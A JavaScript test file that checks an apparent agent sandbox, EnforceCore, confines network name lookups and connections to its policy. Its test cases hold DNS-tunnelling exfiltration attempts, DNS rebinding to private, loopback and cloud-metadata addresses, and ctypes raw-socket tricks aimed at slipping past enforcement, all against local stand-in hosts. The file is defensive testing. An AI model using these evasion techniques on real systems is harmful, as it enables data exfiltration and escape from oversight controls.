// SPDX-License-Identifier: Apache-2.0
// names.mjs - hosts by name: look-ups lead to the agent's resolver, and nothing
// is reached, or told to a server, but what the policy names. Asserts on bytes
// delivered and on what the servers were asked.
import fs from 'node:fs';
import net from 'node:net';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { Client } from './client.mjs';
import { serve } from './names_dns.mjs';
import { keep } from './keeper.mjs';
import { check, report } from './report.mjs';

const EC = process.env.EC ?? 'build/enforcecore';
const RACES = Number(process.env.RACES || 1000);
const HERE = new URL('.', import.meta.url).pathname;
const W = '/var/tmp/ec-names', POLICY = `${W}/policy.yaml`, TRAIL = `${W}/trail.jsonl`, SECRET = `${W}/secret`;
// all of 93.184.0.0/16 is this machine; STRANGER answers whatever it is asked
const PUBLIC = '93.184.216.34', SECOND = '93.184.216.35', NEVER = '93.184.216.36', STRANGER = '93.184.216.53', STRANGER6 = '2a00:1450::53', PRIVATE = '10.9.8.7';
const PORT = 18443, UPSTREAM = 18053;
const ip = (...args) => execFileSync('/usr/sbin/ip', args);
const wait = (ms) => new Promise((d) => setTimeout(d, ms));

const policy = () => `
name: names
rules: { allowed_tools: [act, dial] }
kernel:
  resolver: { servers: ["127.0.0.1:${UPSTREAM + 1}", "127.0.0.1:${UPSTREAM}"], keep: 2, private: ["db.wild.example.org"] }
  baseline:
    exec: ["${process.execPath}", "/usr/bin/python3*"]
    read: ["/usr/**", "/lib/**", "/lib64/**", "/etc/**", "/proc/**", "/sys/**", "/dev/null", "/dev/urandom", "${HERE}**", "${SECRET}"]
    write: ["/dev/null", "${W}/out"]
    connect: ["api.example.org:${PORT}", "*.wild.example.org:${PORT}", "localhost:${PORT}"]
  never:
    connect: ["${NEVER}:*", "bad.wild.example.org:*"]
  labels: { secret: ["${SECRET}"] }
  flows: [{ after: read secret, deny: connect, except: ["api.example.org:${PORT}"] }]
  tools:
    dial: { connect: ["\${args.host}:${PORT}"] }
    act: {}
`;

const zones = {
  'api.example.org': { records: [PUBLIC, SECOND, '2a00:1450::34'] },
  'v6.wild.example.org': { records: ['2a00:1450::34'] },
  'db.wild.example.org': { records: [PRIVATE] },
  'inner.wild.example.org': { records: [PRIVATE] },
  'mixed.wild.example.org': { records: [PUBLIC, PRIVATE] },
  'loop.wild.example.org': { records: ['127.0.0.2'] },
  'cloud.wild.example.org': { records: ['169.254.169.254'] },
  'mapped.wild.example.org': { records: ['::ffff:a09:807'] },
  'nat64.wild.example.org': { records: ['64:ff9b::a09:807'] },
  'never.wild.example.org': { records: [NEVER] },
  'bad.wild.example.org': { records: [PUBLIC] },
  'alias.wild.example.org': { records: ['=edge.elsewhere.net', '93.184.216.40'] },
  'badalias.wild.example.org': { records: ['=bad.wild.example.org', '93.184.216.41'] },
  'big.wild.example.org': { truncated: true, records: Array.from({ length: 40 }, (_, i) => `93.184.217.${i + 1}`) },
  'short.wild.example.org': { ttl: 1, records: ['93.184.216.50'] },
  'call.example.net': { records: ['93.184.216.60'] },
  'neverhost.example.net': { records: [NEVER] },
};
const zone = (name, type) => {
  const number = /^n(\d+)\.wild\.example\.org$/.exec(name)?.[1];
  const z = number ? { records: [`93.184.${100 + (number >> 8)}.${number & 255}`] } : zones[name];
  if (!z) return { rcode: 3 };
  const records = z.records.filter((r) => r[0] === '=' || r.includes(':') === (type === 28));
  return type === 1 || type === 28 ? { ...z, records: records.some((r) => r[0] !== '=') ? records : [] } : {};
};

fs.rmSync(W, { recursive: true, force: true });
fs.mkdirSync(W, { recursive: true });
ip('route', 'add', 'local', '93.184.0.0/16', 'dev', 'lo');
ip('addr', 'add', `${PRIVATE}/32`, 'dev', 'lo');
for (const a of [STRANGER6, '2a00:1450::34']) ip('-6', 'addr', 'add', `${a}/128`, 'dev', 'lo', 'nodad');
const before = ['/etc/resolv.conf', '/etc/hosts'].map((f) => [f, fs.existsSync(f) ? fs.readFileSync(f) : '']);
fs.writeFileSync('/etc/resolv.conf', `nameserver ${STRANGER}\noptions timeout:3 attempts:1\n`);
fs.writeFileSync('/etc/hosts', '127.0.0.1 localhost\n');
fs.writeFileSync(POLICY, policy());
fs.writeFileSync(SECRET, 'secret');

let received = '';
const server = net.createServer((s) => { s.on('error', () => {}); s.on('data', (d) => received += d); }).listen(PORT, '::');
await new Promise((d) => server.once('listening', d));
const dns = await serve('127.0.0.1', UPSTREAM, zone);
const strangers = [await serve(STRANGER, 53, (name, type) => type === 1 ? { records: [name.startsWith('bad') ? '93.184.216.99' : PUBLIC] } : {}), await serve(STRANGER6, 53, () => ({ records: [PUBLIC] }))];
const strange = () => strangers.flatMap((s) => s.seen).filter((x) => !x.startsWith('bad.wild'));
const asked = (name) => dns.seen.some((x) => x.startsWith(name));

// What a client does, as code for rogue.mjs or for a process of its own.
const CODE = {
  dial: (host, text, port = PORT, family = 4) => `return new Promise((done, fail) => { const s = net.connect({ host: '${host}', port: ${port}, family: ${family} }); s.once('error', fail); s.once('connect', () => s.end('${text}', () => done('sent'))); setTimeout(() => fail({ code: 'TIMEOUT' }), 6000); })`,
  ares: (name, type = 'A', at = STRANGER) => `const r = new dns.promises.Resolver({ timeout: 3000, tries: 1 }); r.setServers(['${at.includes(':') ? `[${at}]` : at}']); return r.resolve('${name}', '${type}')`,
  overTcp: (name) => `return new Promise((done, fail) => { const s = net.connect(53, '${STRANGER}', () => { const q = Buffer.from('${question(name)}', 'hex'); s.write(Buffer.concat([Buffer.from([0, q.length]), q])); });
    s.once('error', fail); s.once('data', (d) => { s.end(); done(JSON.stringify([s.remoteAddress, d.subarray(-4).join('.')])); }); setTimeout(() => fail({ code: 'TIMEOUT' }), 4000); })`,
  udp: (name, at, type, port = 53) => `return new Promise((done, fail) => { const s = dgram.createSocket('${type}'); s.once('error', fail); s.on('message', (m, from) => { s.close(); done(JSON.stringify([from.address, from.port, m.subarray(-4).join('.')])); });
    s.send(Buffer.from('${question(name)}', 'hex'), ${port}, '${at}', (e) => e && fail(e)); setTimeout(() => fail({ code: 'TIMEOUT' }), 2500); })`,
  python: (code) => `const r = spawnSync('/usr/bin/python3', ['-I', '-c', ${JSON.stringify(code)}]); if (r.error) throw r.error; return String(r.stdout).trim() || String(r.stderr).trim()`,
  race: (n) => `const r = new dns.promises.Resolver(); r.setServers(['${STRANGER}']); let refused = 0, next = 0;
    const one = async () => { while (next < ${n}) { const [a] = await r.resolve4('n' + next++ + '.wild.example.org'); await new Promise((d) => { const s = net.connect(${PORT}, a, () => { s.destroy(); d(); }); s.on('error', () => { refused++; d(); }); }); } };
    await Promise.all([one(), one(), one(), one()]); return refused`,
};
function question(name) { return Buffer.concat([Buffer.from('123401000001000000000000', 'hex'), ...name.split('.').map((l) => Buffer.from(String.fromCharCode(l.length) + l)), Buffer.from('0000010001', 'hex')]).toString('hex'); }
const outside = (code) => new Promise((done) => { const p = spawn(process.execPath, ['-e', `(async (net, dgram, dns, spawnSync) => { ${code} })(require('net'), require('dgram'), require('dns'), require('child_process').spawnSync).then((v) => { console.log(JSON.stringify({ ok: true, value: v })); process.exit(); }, (e) => { console.log(JSON.stringify({ ok: false, code: e.code })); process.exit(); })`]); let out = ''; p.stdout.on('data', (d) => out += d); p.on('exit', () => { try { done(JSON.parse(out)); } catch { done({ ok: false, out }); } }); });
const start = (extra = []) => new Client([EC, 'mcp', '-p', POLICY, '--trail', TRAIL, ...extra, '--', process.execPath, `${HERE}rogue.mjs`]).init();
const trail = () => fs.readFileSync(TRAIL, 'utf8').trim().split('\n').map((l) => JSON.parse(l));

let c;
const inside = (code, tool = 'act', args = {}) => c.call(tool, { ...args, act: 'run', code });
const reaches = async (text) => { await wait(40); return received.includes(text); };

// Every attack works on an unconfined process.
async function attacksWork() {
  check((await outside(CODE.dial(PUBLIC, 'plain-literal'))).ok && await reaches('plain-literal'), 'without EnforceCore: a literal address');
  check((await outside(CODE.ares('secret.tunnel.example'))).ok && strange().some((x) => x.startsWith('secret.tunnel')), 'without EnforceCore: a name leaves the host');
  check((await outside(CODE.overTcp('tcp.tunnel.example'))).ok && strange().includes('tcp.tunnel.example/1/tcp'), 'without EnforceCore: over TCP');
  check((await outside(CODE.udp('udp6.tunnel.example', STRANGER6, 'udp6'))).ok && strange().includes('udp6.tunnel.example/1'), 'without EnforceCore: over IPv6');
  check((await outside(CODE.dial('any.example.org', 'plain-name'))).ok && await reaches('plain-name'), 'without EnforceCore: any name');
  for (const s of strangers) s.seen.length = 0;
}

async function names() {
  let r = await inside(CODE.dial(PUBLIC, 'early'));
  check(r.code === 'EACCES' && !await reaches('early'), 'refused: an address before its name was looked up', r);
  r = await inside(CODE.dial('api.example.org', 'by-name'));
  check(r.ok && await reaches('by-name'), 'works: a name of the baseline, through libc', r);
  r = await inside(CODE.ares('api.example.org'));
  check(r.value?.[0] === PUBLIC, 'works: through c-ares, with a server of its own choice', r);
  r = await inside(CODE.ares('API.Example.ORG', 'AAAA'));
  check(r.value?.[0] === '2a00:1450::34', 'works: IPv6, whatever the case', r);
  r = await inside(CODE.ares('v6.wild.example.org', 'AAAA', STRANGER6));
  check(r.value?.[0] === '2a00:1450::34', 'works: a server over IPv6', r);
  r = await inside(CODE.dial('v6.wild.example.org', 'over-v6', PORT, 6));
  check(r.ok && await reaches('over-v6'), 'works: an IPv6 address', r);
  r = await inside(CODE.overTcp('api.example.org'));
  check(r.ok && JSON.parse(r.value)[0] === STRANGER, 'works: over TCP, and the peer is whom the agent asked', r);
  r = await inside(CODE.udp('api.example.org', STRANGER, 'udp4'));
  check(r.ok && JSON.parse(r.value)[0] === STRANGER && JSON.parse(r.value)[1] === 53, 'works: an unconnected socket, answered by whom it asked', r);
  r = await inside(CODE.udp('api.example.org', `::ffff:${STRANGER}`, 'udp6'));
  check(r.ok && JSON.parse(r.value)[0] === `::ffff:${STRANGER}`, 'works: a mapped address', r);
  r = await inside(CODE.python(`import socket\ns = socket.create_connection(("deep.api.wild.example.org", ${PORT}))`));
  check(!r.value?.includes('refused') && asked('deep.api.wild.example.org'), 'a suffix has any number of labels', r);
  r = await inside(CODE.python(`import socket\ns = socket.create_connection(("alias.wild.example.org", ${PORT}))\ns.sendall(b"by-alias")\ns.close()`));
  check(await reaches('by-alias'), 'works: an alias, in python', r);
  r = await inside(CODE.dial('localhost', 'by-hosts'));
  check(r.ok && await reaches('by-hosts'), 'works: a name of /etc/hosts, by its address', r);
  r = await inside(CODE.dial('big.wild.example.org', 'by-tcp'));
  check(r.ok && await reaches('by-tcp') && dns.seen.includes('big.wild.example.org/1/tcp'), 'works: an answer that the server gives over TCP only', r);
  r = await inside(CODE.dial('db.wild.example.org', 'to-private'));
  check(r.ok && await reaches('to-private'), 'works: a private address of a name that may have one', r);
  r = await inside(`const [a] = await new dns.promises.Resolver().resolve4('api.example.org'); ${CODE.dial(PUBLIC, 'other-port', PORT + 1)}`);
  check(r.code === 'EACCES', 'refused: another port of that name', r);
  check(strange().length === 0, 'no other server was asked', strange());
  const denials = trail().filter((x) => x.kind === 'denial' && !['93.184.216.34:18443', 'api.example.org:18444'].includes(x.target));
  check(denials.length === 0, 'no false denial', denials);
  check(trail().some((x) => x.target === 'api.example.org:18444' && x.address === PUBLIC), 'the trail has the name and its address', trail().filter((x) => x.kind === 'denial'));
}

async function refusals() {
  let r;
  for (const name of ['leak.example.org', 'example.org', 'wild.example.org', 'api.example.org.evil.example', 'bad.wild.example.org', 'x'.repeat(60) + '.tunnel.example']) {
    r = await inside(CODE.ares(name));
    check(r.code === 'ENOTFOUND' && !asked(name), `refused, and not told to anyone: ${name.slice(0, 40)}`, r);
  }
  for (const type of ['TXT', 'MX', 'SRV', 'NS', 'ANY']) {
    r = await inside(CODE.ares('api.example.org', type));
    check(!r.ok, `refused: ${type}`, r);
  }
  check(!dns.seen.some((x) => !/\/(1|28)(\/tcp)?$/.test(x)), 'only addresses are asked for', dns.seen);
  for (const name of ['inner', 'mixed', 'loop', 'cloud']) {
    r = await inside(CODE.ares(`${name}.wild.example.org`));
    check(r.code === 'ENOTFOUND' && asked(`${name}.wild`), `rebinding refused: ${name}`, r);
  }
  for (const name of ['mapped', 'nat64']) {
    r = await inside(CODE.ares(`${name}.wild.example.org`, 'AAAA'));
    check(r.code === 'ENOTFOUND', `rebinding refused: ${name}`, r);
  }
  r = await inside(CODE.dial('inner.wild.example.org', 'rebound'));
  check(!r.ok && !await reaches('rebound'), 'rebinding reaches nothing', r);
  r = await inside(CODE.dial('never.wild.example.org', 'to-never'));
  check(!r.ok && !await reaches('to-never'), 'an address of never wins over a name', r);
  r = await inside(CODE.ares('badalias.wild.example.org'));
  check(r.code === 'ENOTFOUND', 'refused: an alias that never names', r);
  r = await inside(CODE.udp('api.example.org', '127.0.0.1', 'udp4', UPSTREAM));
  check(r.code === 'EACCES', 'refused: the server itself, by its port', r);
  for (const port of [853, 5353, 5355]) {
    r = await inside(CODE.udp('api.example.org', STRANGER, 'udp4', port));
    check(r.code === 'EACCES', `refused: port ${port}`, r);
  }
  r = await inside(CODE.python(`import socket\nq = bytes.fromhex("${question('mptcp.tunnel.example')}")\nout = []\n` +
    `def t(f):\n  try: f(); out.append("through")\n  except OSError as e: out.append(str(e.errno))\n` +
    `t(lambda: socket.socket(2, 1, 262).connect(("${STRANGER}", 53)))\n` +
    `s = socket.socket(2, 1)\nt(lambda: s.sendto(bytes([0, len(q)]) + q, 0x20000000, ("${STRANGER}", 53)))\n` +
    `print(out, s.getpeername())`));
  check(/13/.test(r.value) && strange().length === 0, 'MPTCP and fast open lead nowhere else', r);
  // sockaddr_in on an IPv6 socket, and one of no family on an IPv4 socket; recvmsg and sendmsg; two threads with one socket
  r = await inside(CODE.python(`import socket, ctypes, struct, threading\nq = bytes.fromhex("${question('odd.tunnel.example')}")\nlibc = ctypes.CDLL(None, use_errno=True)\nout = []\n` +
    `def addr(family): return struct.pack("<H", family) + struct.pack(">H", 53) + socket.inet_aton("${STRANGER}") + bytes(8)\n` +
    `def call(f, *a): out.append(0 if f(*a) >= 0 else ctypes.get_errno())\n` +
    `s = socket.socket(10, 2)\ncall(libc.connect, s.fileno(), addr(2), 16)\ncall(libc.sendto, s.fileno(), q, len(q), 0, addr(2), 16)\n` +
    `s = socket.socket(2, 2)\ncall(libc.sendto, s.fileno(), q, len(q), 0, addr(0), 16)\n` +
    `s = socket.socket(10, 1)\ncall(libc.connect, s.fileno(), addr(2), 16)\n` +
    `def flood(to):\n  for i in range(200):\n    try: s.sendto(q, to)\n    except OSError: pass\n` +
    `s = socket.socket(2, 2)\nt = [threading.Thread(target=flood, args=((a, p),)) for a, p in (("${STRANGER}", 53), ("127.0.0.1", 53), ("${STRANGER}", 54), ("${PUBLIC}", 53))]\n[x.start() for x in t]\n[x.join() for x in t]\nprint(out)`));
  check(r.value === '[13, 13, 13, 13]', 'refused: addresses of another family than the socket', r);
  check(strange().length === 0, 'no other server was asked anything', strange());
  const reasons = new Set(trail().filter((x) => x.kind === 'lookup').map((x) => x.reason));
  check(['undeclared', 'never', 'rebinding'].every((x) => reasons.has(x)), 'the trail says why', [...reasons]);
}

async function calls() {
  let r = await inside(CODE.dial('call.example.net', 'no-call'));
  check(!r.ok && !asked('call.example.net'), 'refused: a name that no open call has', r);
  r = await inside(CODE.dial('call.example.net', 'in-call'), 'dial', { host: 'call.example.net' });
  check(r.ok && await reaches('in-call'), 'works: the name of an open call', r);
  r = await inside(CODE.dial('api.example.net', 'not-declared'), 'dial', { host: 'call.example.net' });
  check(!r.ok && !asked('api.example.net'), 'refused: another name than declared', r);
  r = await inside(CODE.ares('call.example.net'));
  check(r.code === 'ENOTFOUND', 'refused: its look-up, once the call is closed', r);
  r = await inside(CODE.dial('93.184.216.60', 'after-call'));
  check(r.code === 'EACCES' && !await reaches('after-call'), 'refused: its address, once the call is closed', r);
  r = await inside(CODE.dial('neverhost.example.net', 'call-never'), 'dial', { host: 'neverhost.example.net' });
  check(!r.ok && !await reaches('call-never'), 'never wins over a call', r);
}

async function expiry() {
  let r = await inside(CODE.dial('short.wild.example.org', 'short-1'));
  check(r.ok && await reaches('short-1'), 'works: a short time to live', r);
  await wait(2600);
  r = await inside(CODE.dial('93.184.216.50', 'short-2'));
  check(r.code === 'EACCES' && !await reaches('short-2'), 'refused: when it has expired', r);
  r = await inside(CODE.dial('short.wild.example.org', 'short-3'));
  check(r.ok && await reaches('short-3'), 'works: looked up again', r);
}

async function race() {
  const began = Date.now();
  const r = await inside(CODE.race(RACES));
  check(r.ok && r.value === 0, `${RACES} connections right behind their look-ups, none refused`, r);
  console.log(`${RACES} names in ${Date.now() - began} ms`);
}

async function bystander() {
  const before = strange().length;
  const r = await outside(CODE.ares('by.stander.example'));
  check(r.ok && strange().length === before + 1, 'a process outside asks whom it likes', { r, strange: strange() });
  for (const s of strangers) s.seen.length = 0;
}

async function flow() {
  await c.call('act', { act: 'readSync', target: SECRET });
  let r = await inside(CODE.ares('exfil.wild.example.org'));
  check(r.code === 'ENOTFOUND' && !asked('exfil.wild'), 'a flow that is tripped: no name leaves', r);
  r = await inside(CODE.dial('api.example.org', 'excepted'));
  check(r.ok && await reaches('excepted'), 'but for what it excepts', r);
  r = await inside(CODE.overTcp('api.example.org'));
  check(r.ok, 'which can be looked up over TCP, too', r);
}

async function observe() {
  fs.rmSync(TRAIL);
  c = await start(['--observe']);
  const r = await inside(CODE.ares('call.example.net'));
  check(r.ok, 'observe mode: any name is looked up', r);
  const d = await inside(CODE.dial('call.example.net', 'observed'));
  check(d.ok && await reaches('observed'), 'observe mode: and reached', d);
  await c.close();
  check(trail().some((x) => x.kind === 'lookup' && x.verdict === 'would-deny' && x.name === 'call.example.net') &&
    trail().some((x) => x.op === 'connect' && x.verdict === 'would-deny' && x.target === `call.example.net:${PORT}`), 'observe mode: both recorded', trail());
}

// A controller that is killed answers no more, and nobody else does; the next one does.
async function orphan() {
  fs.rmSync(TRAIL, { force: true });
  const loop = `const { Resolver } = require('dns').promises; const fs = require('fs'); const r = new Resolver({ timeout: 1000, tries: 1 }); r.setServers(['${STRANGER}']);
    (async () => { for (;;) { let s; try { s = 'ok ' + await r.resolve4('api.example.org'); } catch (e) { s = e.code; } fs.writeFileSync('${W}/out', s); await new Promise((d) => setTimeout(d, 100)); } })()`;
  const run = spawn(EC, ['run', '-p', POLICY, '--trail', TRAIL, '--', process.execPath, '-e', loop], { stdio: ['ignore', 'inherit', 'inherit'] });
  const says = async (pattern) => { for (let i = 0; i < 200; i++) { try { const t = fs.readFileSync(`${W}/out`, 'utf8'); if (pattern.test(t)) return true; } catch { /* not yet */ } await wait(50); } return false; };
  check(await says(/^ok/), 'works: while its controller lives');
  const died = new Promise((d) => run.once('exit', d));
  run.kill('SIGKILL');
  await died;
  check(await says(/^E/), 'refused: when its controller is dead');
  check(strange().length === 0, 'and no other server is asked', strange());
  const next = spawn(EC, ['adopt', String(trail()[0].agent)], { stdio: ['ignore', 'inherit', 'inherit'] });
  const left = new Promise((d) => next.once('exit', d));
  check(await says(/^ok/), 'works: when another has adopted it', trail());
  for (const dir of fs.readdirSync('/proc')) try { if (fs.readFileSync(`/proc/${dir}/cmdline`, 'utf8').startsWith(`${process.execPath}\0-e\0const { Resolver }`)) process.kill(Number(dir), 'SIGKILL'); } catch { /* gone, or no process */ }
  await left;
}

await keep(EC);
const parts = { attacksWork, names, refusals, calls, expiry, race, bystander, flow, observe, orphan };
const chosen = process.argv.slice(2);
const wanted = (name) => !chosen.length || chosen.includes(name);
c = await start();
for (const name of ['attacksWork', 'names', 'refusals', 'calls', 'expiry', 'race', 'bystander', 'flow']) {
  const began = Date.now();
  if (wanted(name)) await parts[name]();
  if (process.env.VERBOSE) console.log(`${name}: ${Date.now() - began} ms`);
}
const end = await c.close();
check(end.code === 0, 'the agent ends well', { end, stderr: c.stderr });
for (const name of ['observe', 'orphan']) {
  const began = Date.now();
  if (wanted(name)) await parts[name]();
  if (process.env.VERBOSE) console.log(`${name}: ${Date.now() - began} ms`);
}
for (const [file, text] of before) fs.writeFileSync(file, text);
report();
